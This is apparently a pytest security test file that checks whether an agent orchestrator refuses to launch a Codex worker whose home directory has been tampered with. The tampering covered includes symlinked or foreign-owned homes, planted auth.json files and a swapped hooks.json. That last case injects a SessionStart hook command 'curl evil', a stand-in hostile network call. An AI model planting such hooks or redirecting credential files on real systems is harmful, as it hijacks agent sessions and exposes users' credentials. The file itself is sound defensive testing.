"""Attacks on the isolated agent home of a Codex worker (SECURITY.md invariant 1).

Each attack lands between two launches (or before the first) and delivery must park the worker
before any pane exists: a pre-created home that is loose, foreign-owned or a symlink; `hooks.json`
swapped; the user's `auth.json` itself a symlink. An `auth.json` planted in the home (a link or a
file) is never used: it is replaced by the empty placeholder the user's own file is shown read-only
over (ADR 0012). The worker's role holds the user's raw credential (`credential = "raw"`, ADR 0026):
by default a Codex worker has no `auth.json` at all, only its proxy token."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from oms.adapters.providers import codex
from oms.services.chain import dispatches
from oms.services.delivery.homes import materialise
from oms.services.delivery.service import Delivery
from oms.services.workspace import policy as policy_service
from tests.chain import Chain, sandbox_dir
from tests.helpers import in_user_namespace, make_foreign


@pytest.fixture
def codex_dispatch(
    deliverable: Chain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> tuple[Chain, str, str]:
    return _codex_dispatch(deliverable, tmp_path, monkeypatch)


def _codex_dispatch(
    deliverable: Chain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> tuple[Chain, str, str]:
    home = tmp_path / "user-codex"
    home.mkdir()
    (home / "auth.json").write_text('{"auth_mode":"apikey","OPENAI_API_KEY":"sk-test"}')
    monkeypatch.setenv("CODEX_HOME", str(home))
    if in_user_namespace():
        # /usr/bin/bwrap shows here as owned by the overflow uid, which oms refuses to run: use a
        # copy owned by this namespace's root (oms accepts a bwrap its own user owns).
        own = tmp_path / "bwrap-bin"
        own.mkdir()
        shutil.copy2(shutil.which("bwrap") or "/usr/bin/bwrap", own / "bwrap")
        monkeypatch.setenv("PATH", f"{own}:{os.environ['PATH']}")
    header = '[roles."oms.goal-long-executor"]   # Codex CLI in /goal mode\n'
    raw = header + 'network = "host"\ncredential = "raw"\n'  # the user's login file, read-only
    deliverable.edit_config(lambda s: s.replace(header, raw), commit=True)
    ticket_id, _ = deliverable.leased_ticket()
    with deliverable.workspace() as ws:
        rec, _ = dispatches.propose(ws, ticket_id, "oms.goal-long-executor")
        dispatches.review(ws, rec.record_id)
        _, event_id = dispatches.accept(ws, rec.record_id)
    return deliverable, rec.record_id, event_id


def _home(chain: Chain, dispatch_id: str) -> Path:
    with chain.workspace() as ws:
        session = ws.store.records("dispatch").read(dispatch_id).payload["session_id"]
    return sandbox_dir(chain.state) / codex.home(str(session))


def _materialise_first(chain: Chain, dispatch_id: str) -> None:
    """The home as a previous launch left it."""
    with chain.workspace() as ws:
        delivery = Delivery.open(ws)
        tools = (
            policy_service.load_tracked(ws.config_root, ws.repo)
            .roles["oms.goal-long-executor"]
            .tools
        )
        plan = delivery.plan(ws.store.records("dispatch").read(dispatch_id), None, tools)
        materialise(ws.store.sandboxes(), plan)


def _loose(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    home = _home(chain, dispatch_id)
    home.mkdir(mode=0o755)
    os.chmod(home, 0o755)


def _foreign(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    home = _home(chain, dispatch_id)
    home.mkdir(mode=0o700)
    make_foreign(home)


def _symlinked(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    (tmp / "elsewhere").mkdir(mode=0o700)
    os.symlink(tmp / "elsewhere", _home(chain, dispatch_id))


def _retargeted(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    _materialise_first(chain, dispatch_id)
    link = _home(chain, dispatch_id) / "auth.json"
    (tmp / "attacker-auth.json").write_text("{}")
    os.unlink(link)
    os.symlink(tmp / "attacker-auth.json", link)


def _replaced(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    _materialise_first(chain, dispatch_id)
    link = _home(chain, dispatch_id) / "auth.json"
    os.unlink(link)
    link.write_text('{"OPENAI_API_KEY":"sk-attacker"}')
    os.chmod(link, 0o600)


def _hooks_swapped(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    _materialise_first(chain, dispatch_id)
    hooks = _home(chain, dispatch_id) / "hooks.json"
    os.unlink(hooks)
    hooks.write_text(
        '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl evil"}]}]}}'
    )
    os.chmod(hooks, 0o600)


def _user_auth_is_a_link(chain: Chain, dispatch_id: str, tmp: Path) -> None:
    user = Path(os.environ["CODEX_HOME"]) / "auth.json"
    (tmp / "real-auth.json").write_text(user.read_text())
    os.unlink(user)
    os.symlink(tmp / "real-auth.json", user)


ATTACKS: dict[str, tuple[Callable[[Chain, str, Path], None], str]] = {
    "home pre-created loose": (_loose, "open to others"),
    "home owned by another user": (_foreign, "owned by uid"),
    "home is a symlink": (_symlinked, "symlink"),
    "hooks.json swapped": (_hooks_swapped, "changed since oms wrote it"),
    "user auth.json is a link": (_user_auth_is_a_link, "one regular file"),
}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(
            n, marks=[pytest.mark.foreign_owner] if n == "home owned by another user" else []
        )
        for n in sorted(ATTACKS)
    ],
)
def test_attack_on_the_agent_home_parks_before_launch(
    codex_dispatch: tuple[Chain, str, str], tmp_path: Path, name: str
) -> None:
    chain, dispatch_id, event_id = codex_dispatch
    attack, why = ATTACKS[name]
    attack(chain, dispatch_id, tmp_path)
    with chain.workspace() as ws:
        delivery = Delivery.open(ws)
        outcome = delivery.deliver(event_id)["outcome"]
        assert isinstance(outcome, dict)
        assert outcome["status"] == "parked", outcome
        assert why in str(outcome["reason"])
        assert delivery.panes.list() == []
    if name == "home is a symlink":
        assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize("plant", [_retargeted, _replaced], ids=["a link", "a file"])
def test_an_auth_json_planted_in_the_home_is_never_used(
    codex_dispatch: tuple[Chain, str, str],
    tmp_path: Path,
    plant: Callable[[Chain, str, Path], None],
) -> None:
    chain, dispatch_id, _ = codex_dispatch
    plant(chain, dispatch_id, tmp_path)
    _materialise_first(chain, dispatch_id)
    placeholder = _home(chain, dispatch_id) / "auth.json"
    assert not placeholder.is_symlink()
    assert (
        placeholder.read_bytes() == b""
    )  # the mount point the user's own file is bound over, read-only
    with chain.workspace() as ws:
        delivery = Delivery.open(ws)
        tools = (
            policy_service.load_tracked(ws.config_root, ws.repo)
            .roles["oms.goal-long-executor"]
            .tools
        )
        plan = delivery.plan(ws.store.records("dispatch").read(dispatch_id), None, tools)
    user_auth = os.path.realpath(Path(os.environ["CODEX_HOME"]) / "auth.json")
    assert plan.ro_files == ((user_auth, "/oms/home/auth.json"),)


def test_first_run_state_the_cli_rewrote_is_regenerated_not_refused(
    codex_dispatch: tuple[Chain, str, str],
) -> None:
    chain, dispatch_id, _ = codex_dispatch
    _materialise_first(chain, dispatch_id)
    config = _home(chain, dispatch_id) / "config.toml"
    original = config.read_bytes()
    os.unlink(config)
    config.write_text(
        original.decode() + '\n[tui.model_availability_nux]\n"gpt-6.1-sol" = 11\n'
    )  # as Codex does
    os.chmod(config, 0o600)
    _materialise_first(chain, dispatch_id)
    assert config.read_bytes() == original


def test_incompatible_cli_version_parks_before_launch(
    deliverable: Chain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stub = tmp_path / "bin" / "codex"
    stub.parent.mkdir()
    stub.write_text(
        "#!/bin/sh\necho 'codex-cli 0.170.2'\n"
    )  # a version the real tool cannot be made to report
    stub.chmod(0o755)
    monkeypatch.setenv(
        "PATH", f"{stub.parent}:{os.environ['PATH']}"
    )  # on PATH when approved (role_programs)
    chain, _, event_id = _codex_dispatch(deliverable, tmp_path, monkeypatch)
    with chain.workspace() as ws:
        outcome = Delivery.open(ws).deliver(event_id)["outcome"]
    assert isinstance(outcome, dict)
    assert outcome["status"] == "parked"
    assert "0.170.2 is not compatible" in str(outcome["reason"])
